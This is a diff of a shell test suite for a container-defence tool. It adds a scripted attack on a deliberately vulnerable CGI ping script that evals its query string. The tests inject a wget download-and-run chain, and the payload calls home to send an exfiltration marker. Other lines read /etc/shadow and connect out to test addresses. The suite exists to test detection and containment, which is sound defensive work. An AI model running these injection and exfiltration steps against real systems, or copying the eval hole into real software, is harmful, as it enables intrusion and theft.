@@ -16,6 +16,7 @@ teardown() {
   [ -n "$LISTENER" ] && kill "$LISTENER" 2>/dev/null
   ip link del act-v0 2>/dev/null || true
   [ -n "${OVL:-}" ] && umount "$OVL" 2>/dev/null
+  [ -n "${WEB:-}" ] && rm -rf "$WEB"
   common_teardown
 }
 
@@ -92,7 +93,7 @@ cpu_ticks() {  # utime + stime of every process of the container
   [[ "$output" == *"killed 3 processes of act-k1 (cgroup)"* ]]
   [[ "$output" == *"/sleep"* ]]
   wait "$BG" || true
-  for p in $pids; do ! kill -0 "$p" 2>/dev/null; done
+  for p in $pids; do ! kill -0 "$p" 2>/dev/null || false; done
   assert_clean act-k1
 }
 
@@ -118,7 +119,7 @@ cpu_ticks() {  # utime + stime of every process of the container
   echo "$output"
   [ "$status" -eq 0 ]
   [[ "$output" == *"undid: froze the cgroup"* ]]
-  ! cgroup_frozen act-f1
+  ! cgroup_frozen act-f1 || false
   w state act-f1 | jq -e '.status == "running"'
   t1=$(cpu_ticks act-f1); sleep 0.6; t2=$(cpu_ticks act-f1)
   echo "thawed: $t1 -> $t2"
@@ -163,7 +164,7 @@ while True:
   run w action act-n1 resume
   echo "$output"
   [ "$status" -eq 0 ]
-  ! nsenter -t "$PID" -n ip rule | grep -q prohibit
+  ! nsenter -t "$PID" -n ip rule | grep -q prohibit || false
   n=$(wc -l < "$TEST_TMP/act-n1.out")
   after=$(lines_after "$TEST_TMP/act-n1.out" "$n")
   echo "after resume: $after"
@@ -237,18 +238,19 @@ for i in range(400):
       echo \"shadow: \$(head -n 1 /etc/shadow)\"
       $PY -c 'import socket; s = socket.create_connection((\"203.0.113.7\", 8080), timeout=1); s.sendall(b\"GET /payload-act HTTP/1.0\\r\\n\\r\\n\"); print(\"connect-ok\")' 2>/dev/null || echo connect-fail
       echo tick; i=\$((i+1)); sleep 0.1; done"
-  decoy=$(head -n 1 "$WARD_ROOT/act-h1/probe/decoys/shadow")
-  [ "$(head -n 1 /etc/shadow)" != "$decoy" ]
   # positive control: the sandbox's user cannot read the real file, and
   # has no route out
   wait_for "$TEST_TMP/act-h1.out" connect-fail
   grep -q "^shadow: $" "$TEST_TMP/act-h1.out"
-  ! grep -q "^shadow: $decoy" "$TEST_TMP/act-h1.out"
   run w action act-h1 honeypot
   echo "$output"
   [ "$status" -eq 0 ]
   [[ "$output" == *"started the honeypot sink"* ]]
   [[ "$output" == *"sink: 127.0.0.1:"* ]]
+  # the decoys are written when honeypot is first entered
+  decoy=$(head -n 1 "$WARD_ROOT/act-h1/probe/decoys/shadow")
+  [ -n "$decoy" ]
+  [ "$(head -n 1 /etc/shadow)" != "$decoy" ]
   n=$(wc -l < "$TEST_TMP/act-h1.out")
   after=$(lines_after "$TEST_TMP/act-h1.out" "$n")
   echo "after honeypot: $after"
@@ -258,6 +260,7 @@ for i in range(400):
   cat "$WARD_ROOT/act-h1/honeypot.log"
   sink=$(w action act-h1 status | jq -r '.layers[] | select(.layer == "sink") | .pid')
   kill -0 "$sink"
+  [ "$(stat -c %u /proc/"$sink")" -eq 65534 ]  # host root drops to nobody
   run w action act-h1 resume
   [ "$status" -eq 0 ]
   for i in $(seq 50); do [ "$(ps -o stat= -p "$sink" 2>/dev/null | cut -c1)" != "S" ] && break; sleep 0.05; done
@@ -306,6 +309,19 @@ for i in range(400):
   [ "$status" -eq 0 ]
   [ "$(stat -c %s "$TEST_TMP/small.tar")" -lt 40000 ]
   w snapshot show --json "$TEST_TMP/small.tar" | jq -e '[.skipped[] | select(.reason | test("size limit"))] | length > 0'
+  # CRIU: a checkpoint when criu works here, otherwise the failure and its log
+  if command -v criu >/dev/null; then
+    run w snapshot act-s1 -o "$TEST_TMP/criu.tar" --criu
+    [ "$status" -eq 0 ]
+    w snapshot show --json "$TEST_TMP/criu.tar" > "$TEST_TMP/criu.json"
+    jq -e '.criu.requested' "$TEST_TMP/criu.json"
+    if jq -e '.criu.ok' "$TEST_TMP/criu.json"; then
+      tar -tf "$TEST_TMP/criu.tar" | grep -q '^criu/.*\.img$'
+    else
+      jq -e '.criu.error | test("criu")' "$TEST_TMP/criu.json"
+      tar -xOf "$TEST_TMP/criu.tar" criu/dump.log | grep -q Error
+    fi
+  fi
   # periodic, rotating
   w snapshot act-s1 --every 1 --keep 2 -o "$TEST_TMP/every" > "$TEST_TMP/every.out" &
   ev=$!
@@ -349,7 +365,7 @@ for i in range(400):
   echo "$output"
   [ "$status" -ne 0 ]
   [[ "$output" == *"quarantine: cut the network namespace (prohibit rule), then failed: "*"; rolled back"* ]]
-  ! nsenter -t "$PID" -n ip rule | grep -q prohibit
+  ! nsenter -t "$PID" -n ip rule | grep -q prohibit || false
   w action act-x1 status | jq -e '.action == "none"'
   # honeypot: the sink started first is stopped again
   chattr +i "$WARD_ROOT/act-x1/probe/control"
@@ -412,7 +428,226 @@ for i in range(400):
     [ "$status" -ne 0 ]
     [[ "$output" == *"$f"* ]]
   done
-  [ ! -e ../etc/x ] && [ ! -e /etc/x ]
+  [ ! -e ../etc/x ]
+  [ ! -e /etc/x ]
   run w snapshot show "$TEST_TMP/missing.tar"
   [ "$status" -ne 0 ]
+}
+
+# ---- the scripted attack (issue 6, "Tests that really run") ---------------
+# A web server with a command injection: busybox httpd serving a CGI shell
+# script (run by the host's dynamically linked dash, so the probes are in
+# it) that evals its query string. The attacker (the test, in the
+# container's network namespace) injects: download a payload from a second
+# loopback HTTP server, run it; the payload writes a marker and calls home
+# to the host through a veth pair, sending "exfil-<tag>".
+
+attack_setup() {
+  local id=$1
+  attack_setup_files
+  start_sandbox "$id" "/bin/busybox httpd -f -p 127.0.0.1:18080 -h $WEB/www & /bin/busybox httpd -f -p 127.0.0.1:18081 -h $WEB/payload & wait"
+  attack_network
+}
+
+attack_setup_files() {
+  # the sandbox has a /tmp of its own: serve from a host directory it sees
+  WEB=$(mktemp -d /var/tmp/ward-act.XXXXXX)
+  chmod 755 "$WEB"
+  mkdir -p "$WEB/www/cgi-bin" "$WEB/payload"
+  cat > "$WEB/www/cgi-bin/ping" <<'CGI'
+#!/bin/sh
+echo "Content-Type: text/plain"
+echo
+host=$(echo "$QUERY_STRING" | sed 's/^host=//; s/%20/ /g; s/%3B/;/g')
+eval "echo pinging $host" 2>&1
+CGI
+  cat > "$WEB/payload/p.sh" <<PAYLOAD
+#!/bin/sh
+echo pwned > /tmp/pwned && echo wrote-marker
+$PY -c 'import socket, sys; s = socket.create_connection(("10.213.8.1", 18088), timeout=2); s.sendall(b"exfil-" + sys.argv[1].encode()); print("called-home")' "\$1" 2>&1 | tail -1
+PAYLOAD
+  chmod 755 "$WEB/www/cgi-bin/ping"
+  chmod 644 "$WEB/payload/p.sh"
+  chmod -R a+rX "$WEB"
+}
+
+attack_network() {
+  ip link add act-v0 type veth peer name act-v1 netns "$PID"
+  ip addr add 10.213.8.1/30 dev act-v0
+  ip link set act-v0 up
+  nsenter -t "$PID" -n ip addr add 10.213.8.2/30 dev act-v1
+  nsenter -t "$PID" -n ip link set act-v1 up
+  : > "$TEST_TMP/home.log"
+  $PY -c 'import socket, sys
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("10.213.8.1", 18088)); s.listen(64)
+while True:
+    c, _ = s.accept(); c.settimeout(2)
+    try:
+        d = c.recv(256)
+    except OSError:
+        d = b""
+    open(sys.argv[1], "ab").write(d + b"\n"); c.close()' "$TEST_TMP/home.log" &
+  LISTENER=$!
+  for i in $(seq 100); do nsenter -t "$PID" -n /bin/busybox nc -w 1 127.0.0.1 18080 </dev/null >/dev/null 2>&1 && break; sleep 0.05; done
+}
+
+# attack TAG: the injected request; prints the server's answer
+attack() {
+  local q="host=127.0.0.1%3B/bin/busybox%20wget%20-q%20-O%20/tmp/p.sh%20http://127.0.0.1:18081/p.sh%3Bchmod%20755%20/tmp/p.sh%3B/tmp/p.sh%20$1"
+  nsenter -t "$PID" -n timeout 10 /bin/busybox wget -q -O - "http://127.0.0.1:18080/cgi-bin/ping?$q" 2>&1 || true
+}
+
+@test "act: attack, then kill: the attack ran and called home; the container is dead" {
+  attack_setup act-a1
+  run attack a1
+  echo "$output"
+  [[ "$output" == *wrote-marker* && "$output" == *called-home* ]]
+  wait_for "$TEST_TMP/home.log" exfil-a1
+  run w action act-a1 kill
+  [ "$status" -eq 0 ]
+  [[ "$output" == *"killed 3 processes"* ]]
+  wait "$BG" || true
+  assert_clean act-a1
+}
+
+@test "act: attack under quarantine: frozen, the server does not answer; nonet, the payload cannot call home" {
+  attack_setup act-a2
+  run attack a2-before
+  [[ "$output" == *called-home* ]]
+  w action act-a2 quarantine --form freeze
+  run nsenter -t "$PID" -n timeout 3 /bin/busybox wget -q -O - "http://127.0.0.1:18080/cgi-bin/ping?host=x"
+  [ "$status" -ne 0 ]
+  w action act-a2 quarantine --form nonet
+  run w action act-a2 status
+  echo "$output" | jq -e '.form == "nonet"'
+  run attack a2-nonet
+  echo "$output"
+  [[ "$output" == *wrote-marker* ]]
+  [[ "$output" != *called-home* ]]
+  ! grep -qx exfil-a2-nonet "$TEST_TMP/home.log" || false
+  w action act-a2 kill
+  wait "$BG" || true
+}
+
+@test "act: attack under restrict: the injected commands cannot exec" {
+  attack_setup act-a3
+  run attack a3-before
+  [[ "$output" == *called-home* ]]
+  w action act-a3 restrict
+  run attack a3
+  echo "$output"
+  # the CGI shell itself runs (the static server execs it), but nothing it
+  # tries to run does: not even the sed that decodes the query
+  [[ "$output" == *pinging* ]]
+  [[ "$output" != *wrote-marker* && "$output" != *called-home* ]]
+  ! grep -qx exfil-a3 "$TEST_TMP/home.log" || false
+  w action act-a3 kill
+  wait "$BG" || true
+}
+
+@test "act: attack under honeypot: the call home reaches the sink, not the host" {
+  attack_setup act-a4
+  run attack a4-before
+  [[ "$output" == *called-home* ]]
+  wait_for "$TEST_TMP/home.log" exfil-a4-before
+  w action act-a4 honeypot
+  run attack a4
+  echo "$output"
+  [[ "$output" == *called-home* ]]
+  wait_for "$WARD_ROOT/act-a4/honeypot.log" exfil-a4
+  ! grep -qx exfil-a4 "$TEST_TMP/home.log" || false
+  w action act-a4 kill
+  wait "$BG" || true
+}
+
+@test "act: attack, then snapshot: the server's processes, their hashes and its listening socket" {
+  attack_setup act-a5
+  run attack a5
+  [[ "$output" == *called-home* ]]
+  run w snapshot act-a5 -o "$TEST_TMP/a5.tar"
+  [ "$status" -eq 0 ]
+  tar -xOf "$TEST_TMP/a5.tar" manifest.json > "$TEST_TMP/a5.json"
+  jq -e '[.processes[] | select(.cmdline[0] == "/bin/busybox" and .cmdline[1] == "httpd")] | length == 2' "$TEST_TMP/a5.json"
+  want=$(sha256sum /bin/busybox | cut -d' ' -f1)
+  jq -e --arg h "$want" '[.executables[] | select(.sha256 == $h)] | length == 1' "$TEST_TMP/a5.json"
+  # the listening sockets of the server, as its namespace sees them (port 18080 = 0x46A0)
+  tar -xOf "$TEST_TMP/a5.tar" --wildcards 'net/*/tcp' | grep -q ':46A0 00000000:0000 0A'
+  w action act-a5 kill
+  wait "$BG" || true
+}
+
+@test "act: rootless: nonet and honeypot from inside the user namespace, snapshot, kill through the pid namespace" {
+  rootless_setup
+  rootless "$RL_WARD" sandbox --name act-rl1 -- sh -c "i=0; while [ \$i -lt 400 ]; do
+      $PY -c 'import socket; s = socket.create_connection((\"203.0.113.9\", 8080), timeout=1); s.sendall(b\"rootless-exfil\"); print(\"connect-ok\")' 2>/dev/null || echo connect-fail
+      echo tick; i=\$((i+1)); sleep 0.1; done" > "$RL_TMP/out" 2>&1 &
+  BG=$!
+  for i in $(seq 200); do rootless "$RL_WARD" state act-rl1 >/dev/null 2>&1 && break; sleep 0.05; done
+  PID=$(rootless "$RL_WARD" state act-rl1 | jq .pid)
+  wait_for "$RL_TMP/out" connect-fail
+  # no cgroup to freeze: refused, nothing applied
+  run rootless "$RL_WARD" action act-rl1 quarantine --form freeze
+  echo "$output"
+  [ "$status" -ne 0 ]
+  [[ "$output" == *"has no cgroup"*"use --form nonet"* ]]
+  run rootless "$RL_WARD" action act-rl1 quarantine --form nonet
+  echo "$output"
+  [ "$status" -eq 0 ]
+  nsenter -t "$PID" -n ip rule | grep -q prohibit
+  run rootless "$RL_WARD" action act-rl1 honeypot
+  echo "$output"
+  [ "$status" -eq 0 ]
+  [[ "$output" == *"replaced: quarantine"* ]]
+  ! nsenter -t "$PID" -n ip rule | grep -q prohibit || false
+  wait_for "$RL_ROOT/act-rl1/honeypot.log" rootless-exfil
+  sink=$(rootless "$RL_WARD" action act-rl1 status | jq -r '.layers[] | select(.layer == "sink") | .pid')
+  [ "$(stat -c %u /proc/"$sink")" -eq "$(id -u wardtest)" ]
+  grep -q '^CapEff:.*0000000000000000' /proc/"$sink"/status
+  run rootless "$RL_WARD" snapshot act-rl1 -o "$RL_TMP/s.tar"
+  [ "$status" -eq 0 ]
+  rootless "$RL_WARD" snapshot show --json "$RL_TMP/s.tar" | jq -e --argjson p "$PID" '[.processes[] | select(.pid == $p)] | length == 1'
+  run rootless "$RL_WARD" action act-rl1 kill
+  echo "$output"
+  [ "$status" -eq 0 ]
+  [[ "$output" == *"(pid namespace init)"* ]]
+  wait "$BG" || true
+  ! kill -0 "$PID" 2>/dev/null || false
+  for i in $(seq 50); do kill -0 "$sink" 2>/dev/null || break; sleep 0.05; done
+  ! kill -0 "$sink" 2>/dev/null || [ "$(ps -o stat= -p "$sink" | cut -c1)" = Z ]
+  rm -rf "$RL_TMP"
+}
+
+@test "act: the attack detected by the engine and killed by its policy (learned template, monitor, high -> kill)" {
+  attack_setup_files
+  local start="/bin/busybox httpd -f -p 127.0.0.1:18080 -h $WEB/www & /bin/busybox httpd -f -p 127.0.0.1:18081 -h $WEB/payload & wait"
+  # learn: the server and a benign request
+  "$WARD" --root "$WARD_ROOT" sandbox --name act-d0 --mode learn --template "$TEST_TMP/web.json" -- sh -c "$start" \
+    > "$TEST_TMP/learn.out" 2>&1 &
+  BG=$!
+  wait_running act-d0
+  for i in $(seq 100); do nsenter -t "$PID" -n /bin/busybox nc -w 1 127.0.0.1 18080 </dev/null >/dev/null 2>&1 && break; sleep 0.05; done
+  nsenter -t "$PID" -n /bin/busybox wget -q -O - "http://127.0.0.1:18080/cgi-bin/ping?host=127.0.0.1" | grep -q "pinging 127.0.0.1"
+  sleep 0.5
+  w kill act-d0 KILL
+  wait "$BG" || true
+  [ -s "$TEST_TMP/web.json" ]
+  printf 'mode: monitor\ntemplate: %s\nactions:\n  high: kill\n  critical: kill\n' "$TEST_TMP/web.json" > "$TEST_TMP/web.policy.yaml"
+  # monitor: the same server, attacked
+  "$WARD" --root "$WARD_ROOT" sandbox --name act-d1 --policy "$TEST_TMP/web.policy.yaml" -- sh -c "$start" \
+    > "$TEST_TMP/act-d1.out" 2> "$TEST_TMP/act-d1.alerts" &
+  BG=$!
+  wait_running act-d1
+  for i in $(seq 100); do nsenter -t "$PID" -n /bin/busybox nc -w 1 127.0.0.1 18080 </dev/null >/dev/null 2>&1 && break; sleep 0.05; done
+  # the benign request is no alert worth a kill
+  nsenter -t "$PID" -n /bin/busybox wget -q -O - "http://127.0.0.1:18080/cgi-bin/ping?host=127.0.0.1" | grep -q "pinging 127.0.0.1"
+  kill -0 "$PID"
+  attack d1 || true
+  for i in $(seq 100); do kill -0 "$PID" 2>/dev/null || break; sleep 0.05; done
+  cat "$TEST_TMP/act-d1.alerts"
+  ! kill -0 "$PID" 2>/dev/null || false
+  wait "$BG" || true
+  # killed for a step of the attack (the injected wget or its connect to
+  # the payload server on 18081, the payload), at high
+  grep '"action":"kill"' "$TEST_TMP/act-d1.alerts" | grep '"severity":"high"' | grep -q -E 'wget|p\.sh|"port":18081'
+  assert_clean act-d1
 }
